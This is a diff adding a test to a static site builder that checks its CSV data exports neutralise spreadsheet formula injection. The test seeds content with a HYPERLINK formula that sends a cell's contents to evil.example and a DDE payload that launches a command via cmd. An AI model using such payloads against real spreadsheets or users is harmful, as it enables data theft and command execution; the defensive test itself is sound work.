@@ -7,12 +7,13 @@ import csv
 import io
 import json
 import re
+import shutil
 from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
-from conftest import BUNDLED_NOW, COMPLETE, COMPLETE_NOW, ROOT
+from conftest import BUNDLED_NOW, COMPLETE, COMPLETE_NOW, ROOT, build_complete
 from jsonschema import Draft202012Validator, FormatChecker
 from markupsafe import escape
 
@@ -464,3 +465,44 @@ def test_the_data_page_is_linked_and_listed(complete_site: Path, read_page) -> N
     assert '<a href="/data/">开放数据</a>' in read_page(complete_site, "/")
     sitemap = (complete_site / "sitemap.xml").read_text(encoding="utf-8")
     assert f"<loc>{COMPLETE_URL}/data/</loc>" in sitemap
+
+
+# -- no cell of any CSV file runs as a formula ----------------------------------------------------
+PLACE = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
+TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA = re.compile(r"[\s\x00-\x1f\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫]|[\t\r\n]")
+
+
+def _edit(path: Path, old: str, new: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert old in text, path
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+def test_every_text_cell_of_every_csv_is_guarded(tmp_path: Path) -> None:
+    content = tmp_path / "content"
+    shutil.copytree(COMPLETE / "content", content)
+    _edit(content / "places.yaml", "{name: 玉泉社区,", "{name: '" + PLACE.replace("'", "''") + "',")
+    _edit(
+        content / "projects/yuquan-elevator.md", "title: 玉泉社区3号楼加装电梯", f'title: "{TITLE}"'
+    )
+    _edit(content / "projects/yuquan-elevator.md", "[加装电梯,", "['-加装电梯',")
+    _edit(content / "outcomes/2025-05-28-elevator-pool.md", "title: 3号楼", "title: ＝3号楼")
+    site = tmp_path / "output"
+    assert build_complete(site, content=content) == 0
+
+    tables = {path.name: read_csv(site, path.stem) for path in (site / "data").glob("*.csv")}
+
+    assert sorted(tables) == ["outcomes.csv", "projects.csv"]
+    cells = [c for table in tables.values() for row in table for c in row]
+    assert [c for c in cells if FORMULA.match(c)] == []
+    projects = {row[0]: row for row in tables["projects.csv"]}
+    outcomes = {row[0]: row for row in tables["outcomes.csv"]}
+    assert (
+        "'" + PLACE in projects["yuquan-elevator"]
+        and "'" + PLACE in outcomes["2025-05-28-elevator-pool"]
+    )
+    assert "'" + TITLE in projects["yuquan-elevator"]
+    assert "'-加装电梯；老旧小区改造" in projects["yuquan-elevator"]
+    assert "'＝3号楼加装电梯纳入民心项目池" in outcomes["2025-05-28-elevator-pool"]
+    assert "720000" in projects["yuquan-elevator"]  # a number stays a number
